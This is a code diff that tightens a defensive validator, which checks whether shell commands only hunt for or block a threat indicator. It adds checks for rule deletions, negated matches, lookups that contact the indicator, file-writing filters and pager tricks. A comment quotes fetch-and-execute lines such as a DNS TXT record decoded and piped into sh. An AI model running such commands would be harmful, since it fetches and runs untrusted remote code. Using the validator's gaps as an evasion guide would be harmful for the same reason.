@@ -30,8 +30,10 @@ function words(cmd: SimpleCommand): string {
 }
 
 function blocks(cmd: SimpleCommand): boolean {
-  const rule = words(cmd).replace(/--comment\s+("[^"]*"|'[^']*'|\S+)/g, " ").replace(/\bcomment\s+("[^"]*"|'[^']*'|\S+)/g, " ");
+  const rule = (cmd.program === "nft" ? words(cmd).replace(/\bcomment\s+("[^"]*"|'[^']*'|\S+)/g, " ") : words(cmd).replace(/-m\s+comment\s+--comment\s+("[^"]*"|'[^']*'|\S+)/g, " "));
   if (/\b(?:accept|allow|dnat|snat|masquerade|redirect|tproxy)\b/i.test(rule) || /-t\s+nat\b/.test(rule)) return false;
+  // Removing a block, or blocking everything but the address, opens the way to it.
+  if (/(?:^|\s)(?:-D|--delete|delete|--remove-\S+|remove)(?:\s|=|$)/.test(rule) || /(?:^|\s)!(?:\s|=)|!=/.test(rule)) return false;
   switch (cmd.program) {
     case "ufw":
       return /^(?:insert\s+\d+\s+)?(?:deny|reject)\b/.test(rule);
@@ -46,9 +48,21 @@ function blocks(cmd: SimpleCommand): boolean {
   }
 }
 
+/** A lookup that talks to the indicator as its server, or sends queries it reads from a file or its input. */
+function lookupContacts(cmd: SimpleCommand): boolean {
+  const a = cmd.args;
+  if (a.some((w) => w.startsWith("@") || w === "-" || w === "-f" || w.startsWith("-f"))) return true;
+  if (cmd.program === "whois" && a.some((w) => w === "-h" || w.startsWith("-h") || w === "--host")) return true;
+  // nslookup NAME SERVER, host NAME SERVER: a second operand is the server asked.
+  if (cmd.program === "nslookup" || cmd.program === "host") return a.filter((w) => !w.startsWith("-")).length > 1;
+  return false;
+}
+
 function hunts(cmd: SimpleCommand): boolean {
   if (RUNS_A_PROGRAM.test(` ${words(cmd)}`)) return false;
-  if (SEARCHES.has(cmd.program) || LOOKUPS.has(cmd.program) || cmd.program === "find") return true;
+  if (LOOKUPS.has(cmd.program)) return !lookupContacts(cmd);
+  if (cmd.program === "find") return !/(?:^|\s)-(?:fprint\w*|fls|delete)(?:\s|$)/.test(words(cmd));
+  if (SEARCHES.has(cmd.program)) return true;
   if (cmd.program === "ip") return /^route\s+(?:add|replace)\s+(?:blackhole|unreachable|prohibit)\s/.test(words(cmd));
   if (cmd.program === "ipset") return IPSET_BLOCK.test(words(cmd));
   return FIREWALLS.has(cmd.program) && blocks(cmd);
@@ -56,12 +70,15 @@ function hunts(cmd: SimpleCommand): boolean {
 
 /** A filter of the search's output: awk only without system(), getline or a pipe of its own. */
 function filters(cmd: SimpleCommand): boolean {
-  if (cmd.program === "awk" || cmd.program === "gawk" || cmd.program === "mawk") return !/system|getline|\|/.test(cmd.raw);
+  if (cmd.program === "awk" || cmd.program === "gawk" || cmd.program === "mawk") return !/system|getline|[|>]/.test(cmd.raw);
+  // sort -o and uniq's second operand write files.
+  if (cmd.program === "sort") return !cmd.args.some((w) => w === "-o" || w.startsWith("-o") || w.startsWith("--output"));
+  if (cmd.program === "uniq") return cmd.args.filter((w) => !w.startsWith("-")).length < 2;
   return FILTERS.has(cmd.program);
 }
 
-/** Output written anywhere but the terminal, /dev/null, a temp directory or the user's own relative files. */
-const REDIRECTED_ELSEWHERE = />{1,2}\s*(?!\/dev\/null\b|\/tmp\/|&)(\/|~\/\.)/;
+/** Output written anywhere but the terminal or /dev/null, a process substitution, or a pager of one's choosing. */
+const WRITES_OR_RUNS = /[<>]\(|>{1,2}\s*(?!\s*\/dev\/null\b|&\d)|\b(?:PAGER|LESSOPEN|LESSCLOSE|SYSTEMD_PAGER|MANPAGER)=|--pager\b/;
 
 /**
  * Whether every simple command of `command` that mentions `indicator` searches for it, looks it up or blocks it
@@ -77,7 +94,7 @@ export function onlyHuntsFor(command: string, indicator: string): boolean {
 /** A line judged once: undefined when no indicator in it can be only hunted for, else the commands searching. */
 function judgeLine(command: string): (indicator: string) => boolean {
   // Whatever runs with a lookup's answer (`dig TXT x | base64 -d | sh`, `curl http://$(dig +short x)/p`) is a use.
-  if (/\$\(|`/.test(command) || REDIRECTED_ELSEWHERE.test(command)) return () => false;
+  if (/\$\(|`/.test(command) || WRITES_OR_RUNS.test(command)) return () => false;
   const cmds = simpleCommands(command);
   if (!cmds.every((c) => hunts(c) || filters(c))) return () => false;
   const lowered = cmds.map((c) => ({ raw: c.raw.toLowerCase(), hunt: hunts(c) }));
